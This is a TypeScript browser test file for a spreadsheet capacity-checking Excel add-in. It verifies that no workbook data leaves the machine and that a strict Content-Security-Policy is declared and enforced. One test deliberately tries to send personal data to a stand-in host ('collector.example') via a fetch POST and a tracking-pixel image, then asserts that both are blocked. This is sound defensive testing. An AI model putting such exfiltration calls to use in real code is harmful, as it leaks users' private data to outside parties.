/**
 * No data leaves the machine: every request the standalone pane makes while a workbook is
 * opened, checked and downloaded goes to the page's own origin. The one foreign request is the
 * Office.js script from Microsoft's CDN, which the test blocks (as offline) and without which the
 * page still works. The page's Content-Security-Policy allows scripts only from itself and the
 * Office.js host and connections only to itself, and the browser enforces it.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { Workbook } from 'exceljs';
import { describeWithChromium } from '../support/chromium';
import { openPaneBrowser, type PaneBrowser } from './support/browser';
import { DIST, ROOT } from './support/ensure-build';
import { excelFakeInitScript, fakeOptionsFromRaw, readRawWorkbook } from './support/excel-fake-page';

const TODAY = '2026-03-02';
const OFFICE_JS_HOST = 'https://appsforoffice.microsoft.com';
const OFFICE_JS = `${OFFICE_JS_HOST}/lib/1/hosted/office.js`;
const SAMPLE = path.join(ROOT, 'examples', 'sample.xlsx');

/** A Content-Security-Policy as directive → sources. */
function parsePolicy(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((part) => part.trim()).filter((part) => part !== '').map((part) => {
    const [name, ...sources] = part.split(/\s+/);
    return [name.toLowerCase(), sources];
  }));
}

/** The policy of an HTML page's CSP meta tag, or undefined when it has none. */
function metaPolicy(html: string): string | undefined {
  const tag = /<meta\s[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html)?.[0];
  return tag ? /content="([^"]*)"/i.exec(tag)?.[1] : undefined;
}

describeWithChromium('no data leaves the machine (standalone pane)', () => {
  let browser: PaneBrowser;
  let origin: string;
  const requests: { url: string; method: string; type: string }[] = [];
  /** Requests that failed, with Chromium's reason (net::ERR_BLOCKED_BY_CSP, ...). */
  const failures: { url: string; reason: string }[] = [];
  const sockets: string[] = [];
  const workers: string[] = [];

  beforeAll(async () => {
    browser = await openPaneBrowser({
      today: TODAY,
      beforeNavigate: (context, page) => {
        context.on('request', (request) => requests.push({ url: request.url(), method: request.method(), type: request.resourceType() }));
        context.on('requestfailed', (request) => failures.push({ url: request.url(), reason: request.failure()?.errorText ?? '' }));
        context.on('serviceworker', (worker) => workers.push(worker.url()));
        page.on('websocket', (socket) => sockets.push(socket.url()));
      },
    });
    origin = new URL(browser.server.url).origin;
    await browser.page.getByText('In your browser').waitFor();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
  });

  it('sends nothing anywhere but its own origin while a workbook is opened, checked and downloaded', async () => {
    const { page } = browser;
    await page.getByRole('button', { name: 'Try the sample workbook' }).click();
    await page.getByText('Open: sample.xlsx').waitFor();
    await page.getByRole('button', { name: 'Check capacity' }).click();
    await page.locator('#results:not([hidden])').waitFor();

    // A file of the user's own, opened from disk and checked too.
    await page.locator('#file-input').setInputFiles({ name: 'team plan.xlsx', mimeType: 'application/octet-stream', buffer: fs.readFileSync(SAMPLE) });
    await page.getByText('Open: team plan.xlsx').waitFor();
    await page.getByRole('button', { name: 'Check capacity' }).click();
    await page.getByText(/^Check finished/).waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download annotated workbook' }).click(),
    ]);
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'loadline-no-leak-')), 'annotated.xlsx');
    await download.saveAs(file);
    // Anything sent in the background (a beacon, a late fetch) would have gone by now.
    await page.waitForTimeout(500);

    // The page still worked with Office.js blocked: the annotated workbook has the summary sheets.
    const annotated = new Workbook();
    await annotated.xlsx.readFile(file);
    expect(annotated.getWorksheet('Capacity')).toBeDefined();

    const isOwn = (url: string) => url.startsWith(`${origin}/`) || url.startsWith(`blob:${origin}/`) || url.startsWith('data:');
    expect(requests.length).toBeGreaterThan(3);
    expect(requests.filter((r) => !isOwn(r.url)).map((r) => r.url)).toEqual([OFFICE_JS]);
    expect(browser.blocked).toEqual([OFFICE_JS]);
    // Nothing is uploaded even to the page's own server: every request only fetches.
    expect(requests.filter((r) => r.method !== 'GET')).toEqual([]);
    expect(sockets).toEqual([]);
    expect(workers).toEqual([]);
    // And only files the build made: no endpoint that could receive data.
    const servedPaths = [...new Set(browser.served.map((url) => decodeURIComponent(url.split(/[?#]/)[0])))];
    expect(servedPaths.filter((file) => !fs.existsSync(path.join(DIST, file)))).toEqual([]);
    expect(servedPaths).toContain('sample.xlsx');
  });

  it("declares a Content-Security-Policy with scripts only from itself and Office.js's host, connections only to itself", async () => {
    const content = await browser.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const policy = parsePolicy(content ?? '');
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual(["'self'", OFFICE_JS_HOST]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('form-action')).toEqual(["'none'"]);
  });

  it('declares the same limits on every page the add-in serves', () => {
    const pages = fs.readdirSync(DIST).filter((file) => file.endsWith('.html'));
    expect(pages).toEqual(expect.arrayContaining(['taskpane.html', 'dialog.html']));
    for (const page of pages) {
      const policy = parsePolicy(metaPolicy(fs.readFileSync(path.join(DIST, page), 'utf8')) ?? '');
      expect([page, policy.get('default-src'), policy.get('script-src'), policy.get('connect-src')])
        .toEqual([page, ["'self'"], ["'self'", OFFICE_JS_HOST], ["'self'"]]);
    }
  });

  it('is enforced by the browser: a fetch, an image or an inline script aimed elsewhere never leaves', async () => {
    const before = requests.length;
    const routedBefore = browser.blocked.length;
    const outcome = await browser.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      let fetched = 'sent';
      try {
        await fetch('https://collector.example/upload', { method: 'POST', body: 'Ann,40,150%' });
      } catch {
        fetched = 'refused';
      }
      const image = new Image();
      const imageDone = new Promise<string>((resolve) => {
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
      });
      image.src = 'https://collector.example/pixel.gif?d=Ann';
      const script = document.createElement('script');
      script.textContent = '(window).__inline = 1;';
      document.body.append(script);
      const imageResult = await imageDone;
      await new Promise((resolve) => setTimeout(resolve, 50));
      return { fetched, image: imageResult, inline: (window as unknown as { __inline?: number }).__inline ?? null, violations: [...new Set(violations)].sort() };
    });
    expect(outcome).toEqual({ fetched: 'refused', image: 'refused', inline: null, violations: ['connect-src', 'img-src', 'script-src-elem'] });
    // Refused by the policy: Chromium may announce the image request, but it fails with
    // "csp" (ERR_BLOCKED_BY_CSP) and never reaches the network (the test's route, which sees every
    // request that would go out, saw none).
    const attempted = requests.slice(before).filter((r) => r.url.includes('collector.example')).map((r) => r.url);
    expect(failures.filter((f) => attempted.includes(f.url)).map((f) => f.reason)).toEqual(attempted.map(() => 'csp'));
    expect(browser.blocked.slice(routedBefore)).toEqual([]);
  });
});

describeWithChromium('no data leaves the machine (pane inside Excel, fake host)', () => {
  let browser: PaneBrowser;
  const requests: { url: string; method: string }[] = [];

  beforeAll(async () => {
    const options = fakeOptionsFromRaw(await readRawWorkbook(SAMPLE));
    browser = await openPaneBrowser({
      today: TODAY,
      initScript: excelFakeInitScript(options),
      beforeNavigate: (context) => {
        context.on('request', (request) => requests.push({ url: request.url(), method: request.method() }));
      },
    });
    await browser.page.getByText('In Excel').waitFor();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
  });

  it('checks, clears and saves settings with no request but its own files and the (blocked) Office.js script', async () => {
    const { page } = browser;
    await page.getByRole('button', { name: 'Check capacity' }).click();
    await page.locator('#results:not([hidden])').waitFor();
    await page.getByRole('button', { name: 'Clear highlights' }).click();
    await page.getByText(/^Cleared highlights/).waitFor();
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.getByText(/^Settings saved/).waitFor();
    await page.waitForTimeout(500);

    const origin = new URL(browser.server.url).origin;
    expect(requests.filter((r) => !r.url.startsWith(`${origin}/`)).map((r) => r.url)).toEqual([OFFICE_JS]);
    expect(requests.filter((r) => r.method !== 'GET')).toEqual([]);
    // Inside Excel the workbook goes through Office.js alone: not even the sample is fetched.
    expect(browser.served.filter((url) => !/\.(js|css|png|html)$/.test(url.split(/[?#]/)[0]))).toEqual([]);
  });
});
